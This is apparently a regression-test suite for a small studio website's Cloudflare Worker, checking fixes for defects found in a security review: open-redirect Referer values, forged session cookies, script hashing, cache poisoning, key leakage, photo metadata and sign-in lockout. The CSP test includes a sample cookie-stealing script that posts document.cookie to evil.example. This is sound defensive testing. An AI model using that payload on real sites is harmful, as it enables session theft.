import { env } from "cloudflare:test";
import { describe, expect, inject, it } from "vitest";
import { decodeDocument } from "~/firestore/codec";
import { createFirestoreClient } from "~/firestore/client.server";
import { sealPage, sha256Source } from "~/worker/sealed-page.server";
import { masterKey } from "~/models/photos.server";
import { hasMetadata, sniffImageType } from "~/platform/image-metadata";
import { PHOTO_FORMATS, photoWidths, type PhotoFormat } from "~/site/photos";
import { LOCATED_PHOTOS } from "./support/fixture-paths";
import { envOf, SITE as STUDIO_SITE, studioProject } from "./support/studio-forms";
import { createAuthUser } from "../../scripts/lib/studio-accounts.mjs";
import { authEmulatorHost, callWorker, emulatorHost, sameSitePost, seededProject } from "./support";
import { grantStudioUser, signedStudioCookie, studioCookie, studioEnv } from "./support/studio-session";

// The defects a security review of the studio found, one describe per item, each failing
// before its fix.

const SITE = "https://example.com";
let client = 0;

const unique = (name: string) => `${name}.${crypto.randomUUID().slice(0, 8)}@example.org`;
const demoFirestore = () => createFirestoreClient({ projectId: "demo-colour-studio", emulatorHost: emulatorHost(), deadlineMs: 5000 });

/** Sends the contact form from its own address, with `headers` (a Referer) and the fields given. */
function sendContact(email: string, { headers = {}, fields = {} }: { headers?: Record<string, string>; fields?: Record<string, string> } = {}) {
  return callWorker("/contact", {}, {
    method: "POST",
    body: new URLSearchParams({ submissionId: crypto.randomUUID(), name: "Noor Bakker", email, message: "Could I book a colour analysis in March?", ...fields }),
    headers: { "Content-Type": "application/x-www-form-urlencoded", Origin: SITE, Host: "example.com", "CF-Connecting-IP": `203.0.113.${++client}`, ...headers },
  });
}

async function storedPage(email: string): Promise<unknown> {
  const docs = await demoFirestore().runQuery({ collection: "ContactMessages", where: [{ field: "email", equals: email }] });
  expect(docs).toHaveLength(1);
  return decodeDocument(docs[0]!).data.page;
}

describe("4. the page a request was sent from is a path on this site, or none", () => {
  it.each([
    ["x:/\\evil.example", ""],
    ["https://evil.example/contact", ""],
    [`${SITE}/services/color-analysis-styling?utm=mail`, "/services/color-analysis-styling"],
  ])("a contact message whose Referer is %s records the page %j", async (referer, page) => {
    const email = unique("referer");
    expect((await sendContact(email, { headers: { Referer: referer } })).status).toBe(200);
    expect(await storedPage(email)).toBe(page);
  });

  it("a page field a browser would open off the site (/\\evil.example) is not recorded: the Referer or the form's own page is", async () => {
    const email = unique("field");
    expect((await sendContact(email, { fields: { page: "/\\evil.example" } })).status).toBe(200);
    expect(await storedPage(email)).toBe("/contact");
  });
});

describe("6. only a session cookie this site signed raises a post to the studio's limits", () => {
  // 200 KB of fields: over the public 64 KB, within the studio's 1 MB.
  const body = new URLSearchParams({ intent: "save", notes: "x".repeat(200 * 1024) }).toString();

  it("a cookie merely named studio_session, or one signed with another key, gets the public 413; a signed session's post reaches the page", async () => {
    const { projectId, firestore } = await seededProject("body-limit");
    const editor = "limits-editor@plumandlinen.example";
    await grantStudioUser(firestore, editor);
    const post = (cookie: string) =>
      callWorker("/studio/content/faqs", { FIRESTORE_PROJECT_ID: projectId, ...studioEnv }, {
        method: "POST",
        body,
        headers: { "Content-Type": "application/x-www-form-urlencoded", Origin: SITE, Host: "example.com", Cookie: cookie },
        redirect: "manual",
      });
    const forged = await signedStudioCookie({ id: "made-up" }, { secret: "another-secret-0123456789abcdef" });
    for (const cookie of ["studio_session=forged.value", "__Host-studio_session=x", forged]) expect((await post(cookie)).status, cookie).toBe(413);
    const signed = await post(await studioCookie(editor, firestore));
    expect(signed.status).not.toBe(413);
    expect(signed.status).toBeLessThan(500);
  });
});

describe("7. a kept page allows only the inline scripts its render wrote", () => {
  it("hashes the scripts that carry the render's nonce, not one that got into the page without it, and takes every nonce out", async () => {
    const nonce = "r3nd3r-n0nce";
    const own = "window.__hydrate = 1;";
    const injected = "fetch('https://evil.example/?c=' + document.cookie);";
    const data = '{"@type":"Organization"}';
    const html = `<!DOCTYPE html><html><head><style nonce="${nonce}">p{color:red}</style><script type="application/ld+json">${data}</script></head><body><script nonce="${nonce}">${own}</script><script>${injected}</script><script nonce="another">${injected}</script></body></html>`;
    const sealed = await sealPage(html, nonce);
    expect(sealed.hashes.scripts).toEqual([await sha256Source(own)]);
    expect(sealed.hashes.styles).toEqual([await sha256Source("p{color:red}")]);
    expect(sealed.html).not.toContain("nonce=");
  });
});

describe("5. made-up query values do not become pages of their own in the page cache", () => {
  const outcome = (response: Response) => /page;desc="([^"]+)"/.exec(response.headers.get("Server-Timing") ?? "")?.[1];

  it.each([
    ["/contact?service=anything", "/contact"],
    [`/contact?service=${"x".repeat(300)}`, "/contact"],
    ["/service-booking?service=anything", "/service-booking"],
    ["/service-booking?mode=anything&service=online-color-analysis", "/service-booking?service=online-color-analysis"],
  ])("%s is a 301 to %s, and nothing is kept for it", async (path, location) => {
    const { projectId } = await seededProject("made-up-query");
    for (let visit = 0; visit < 2; visit++) {
      const response = await callWorker(path, { FIRESTORE_PROJECT_ID: projectId }, { redirect: "manual" });
      expect(response.status).toBe(301);
      expect(response.headers.get("Location")).toBe(location);
      expect(outcome(response)).not.toBe("hit");
    }
  });

  it("a value the page knows is kept, and a HEAD is answered from the kept page like the GET, without a body", async () => {
    const { projectId } = await seededProject("known-query");
    const env = { FIRESTORE_PROJECT_ID: projectId };
    const path = "/contact?service=signature-makeover";
    const first = await callWorker(path, env);
    expect(first.status).toBe(200);
    expect(await first.text()).toContain("Signature Makeover");
    expect(outcome(first)).toBe("miss");
    const head = await callWorker(path, env, { method: "HEAD" });
    expect(head.status).toBe(200);
    expect(outcome(head)).toBe("hit");
    expect(head.headers.get("Content-Type")).toMatch(/^text\/html/);
    expect(await head.text()).toBe("");
    expect(outcome(await callWorker(path, env))).toBe("hit");
  });
});

describe("2. no page hands out the key the worker signs passwords in with", () => {
  // vitest.config.ts gives the worker FIREBASE_API_KEY "worker-test-api-key".
  const WORKER_KEY = "worker-test-api-key";
  const signInPage = async (env: Record<string, string | undefined>) => {
    const response = await callWorker("/studio/sign-in", env);
    expect(response.status).toBe(200);
    return response.text();
  };

  it("without Google sign-in the page carries no key at all", async () => {
    const html = await signInPage({});
    expect(html).not.toContain(WORKER_KEY);
    expect(html).not.toContain("apiKey");
    expect(html).not.toContain("Sign in with Google");
  });

  it("with Google sign-in the page carries only the browser's own key, never the worker's", async () => {
    const html = await signInPage({ FIREBASE_AUTH_DOMAIN: "demo-colour-studio.firebaseapp.com", FIREBASE_BROWSER_API_KEY: "browser-test-api-key" });
    expect(html).toContain("Sign in with Google");
    expect(html).toContain("browser-test-api-key");
    expect(html).not.toContain(WORKER_KEY);
  });

  it("an auth domain without a browser key offers no Google sign-in rather than hand out the worker's key", async () => {
    const html = await signInPage({ FIREBASE_AUTH_DOMAIN: "demo-colour-studio.firebaseapp.com" });
    expect(html).not.toContain("Sign in with Google");
    expect(html).not.toContain(WORKER_KEY);
  });
});

describe("9. a PNG, WebP or AVIF keeps no location or camera data, as master or as any size served", () => {
  const latin1 = (bytes: Uint8Array) => new TextDecoder("latin1").decode(bytes);

  it.each(Object.entries(LOCATED_PHOTOS))("%s with EXIF and XMP: the stored master and every size hold none of it", async (format, path) => {
    const project = await studioProject(`located-${format}`, "located-editor@example.com");
    const fixture = await fetch(`${inject("fixtureFilesUrl")}/${path}`);
    const photo = new Uint8Array(await fixture.arrayBuffer());
    // The test's own premise: the upload does carry a location and the camera.
    expect(hasMetadata(photo, sniffImageType(photo)!)).toBe(true);
    expect(latin1(photo)).toContain("Pixelphone");

    const form = new FormData();
    form.set("intent", "upload");
    form.set("photo", new File([photo as BlobPart], path, { type: `image/${format}` }));
    form.set("alt", "Silk scarves in dusty rose on a linen table");
    const encoded = new Response(form);
    const uploaded = await callWorker("/studio/media", envOf(project), {
      method: "POST",
      body: await encoded.arrayBuffer(),
      headers: { "Content-Type": encoded.headers.get("Content-Type")!, Origin: STUDIO_SITE, Host: "example.com", Cookie: project.cookie },
      redirect: "manual",
    });
    expect(uploaded.status).toBe(302);
    const id = /[?&]uploaded=([a-z0-9]{20})/.exec(uploaded.headers.get("Location") ?? "")?.[1];
    expect(id).toBeDefined();

    const master = await env.MEDIA!.get(masterKey(id!));
    const stored = new Uint8Array(await master!.arrayBuffer());
    const files: Array<[string, Uint8Array]> = [["master", stored]];
    for (const kind of Object.keys(PHOTO_FORMATS) as PhotoFormat[]) {
      for (const width of photoWidths(900, kind, 600)) {
        const response = await callWorker(`/media/${id}/${width}.${kind}`, envOf(project));
        expect(response.status, `${width}.${kind}`).toBe(200);
        files.push([`${width}.${kind}`, new Uint8Array(await response.arrayBuffer())]);
      }
    }
    expect(files.length).toBeGreaterThan(5);
    for (const [name, bytes] of files) {
      const kind = sniffImageType(bytes);
      expect(kind, name).not.toBeNull();
      expect(hasMetadata(bytes, kind!), name).toBe(false);
      expect(latin1(bytes), name).not.toContain("Pixelphone");
    }
  }, 60_000);
});

describe("1. strangers cannot lock the studio's staff out of password sign-in (device cookies)", () => {
  let address = 0;
  const newAddress = () => `192.0.2.${(++address % 250) + 1}`;

  async function accountProject(users: Record<string, "editor" | "admin">) {
    const { projectId, firestore } = await seededProject("device-cookies");
    for (const [email, role] of Object.entries(users)) await firestore.writeDocument(`StudioUsers/${email}`, { email, role, active: true, createdAt: new Date() });
    const call = (path: string, init?: RequestInit) => callWorker(path, { FIRESTORE_PROJECT_ID: projectId }, init);
    return { call, firestore };
  }
  type Call = Awaited<ReturnType<typeof accountProject>>["call"];
  const signIn = (call: Call, email: string, password: string, { ip = newAddress(), cookie }: { ip?: string; cookie?: string } = {}) =>
    call("/studio/sign-in", { ...sameSitePost({ email, password, redirectTo: "/studio" }, { ip, cookie }), redirect: "manual" });
  /** The cookies a response sets, as `name=value` pairs for a Cookie header, by name. */
  const setCookies = (response: Response) => new Map(response.headers.getSetCookie().map((header) => header.split(";")[0]!).map((pair) => [pair.slice(0, pair.indexOf("=")), pair]));
  const unique = (name: string) => `${name}.${crypto.randomUUID().slice(0, 8)}@plumandlinen.example`;

  it("after 60 failures from 12 addresses, the owner's browser gets in from a new address; a browser without its device cookie is still held back", async () => {
    const owner = unique("owner");
    const { call } = await accountProject({ [owner]: "editor" });
    await createAuthUser({ authHost: authEmulatorHost(), email: owner, password: "the-owners-password-1" });

    const first = await signIn(call, owner, "the-owners-password-1");
    expect(first.status).toBe(302);
    const cookies = setCookies(first);
    const device = cookies.get("__Host-studio_device");
    expect(device).toBeDefined();
    const deviceHeader = first.headers.getSetCookie().find((header) => header.startsWith("__Host-studio_device="))!;
    expect(deviceHeader).toMatch(/; HttpOnly/i);
    expect(deviceHeader).toMatch(/; Secure/i);
    expect(deviceHeader).toMatch(/; SameSite=Strict/i);
    expect(deviceHeader).toMatch(/; Max-Age=31536000/i);
    expect(deviceHeader).not.toContain(owner);
    const signedOut = await call("/studio/sign-out", { ...sameSitePost({}, { ip: newAddress(), cookie: cookies.get("__Host-studio_session") }), redirect: "manual" });
    expect(signedOut.status).toBe(302);

    const statuses: number[] = [];
    for (let stranger = 0; stranger < 12; stranger++) {
      const ip = newAddress();
      for (let guess = 0; guess < 5; guess++) statuses.push((await signIn(call, owner, `guess-${stranger}-${guess}`, { ip })).status);
    }
    expect(statuses.filter((status) => status === 401)).toHaveLength(50);
    expect(statuses.filter((status) => status !== 401 && status !== 429)).toEqual([]);

    const owners = await signIn(call, owner, "the-owners-password-1", { cookie: device });
    expect(owners.status).toBe(302);
    expect(setCookies(owners).get("__Host-studio_session")).toBeDefined();
    const strangers = await signIn(call, owner, "the-owners-password-1");
    expect(strangers.status).toBe(429);
  }, 60_000);

  it("a device cookie is refused once an admin has ended the person's sessions", async () => {
    const owner = unique("revoked");
    const admin = unique("admin");
    const { call } = await accountProject({ [owner]: "editor", [admin]: "admin" });
    await createAuthUser({ authHost: authEmulatorHost(), email: owner, password: "the-owners-password-2" });
    await createAuthUser({ authHost: authEmulatorHost(), email: admin, password: "the-admins-password-2" });
    const device = setCookies(await signIn(call, owner, "the-owners-password-2")).get("__Host-studio_device");
    const adminSession = setCookies(await signIn(call, admin, "the-admins-password-2")).get("__Host-studio_session");
    const ended = await call(`/studio/users/${encodeURIComponent(owner)}`, { ...sameSitePost({ intent: "end-others" }, { ip: newAddress(), cookie: adminSession }), redirect: "manual" });
    expect(ended.status).toBe(302);

    for (let stranger = 0; stranger < 10; stranger++) {
      const ip = newAddress();
      for (let guess = 0; guess < 5; guess++) await signIn(call, owner, `guess-${stranger}-${guess}`, { ip });
    }
    // The cookie no longer counts: this browser is limited like any other.
    expect((await signIn(call, owner, "the-owners-password-2", { cookie: device })).status).toBe(429);
  }, 60_000);
});
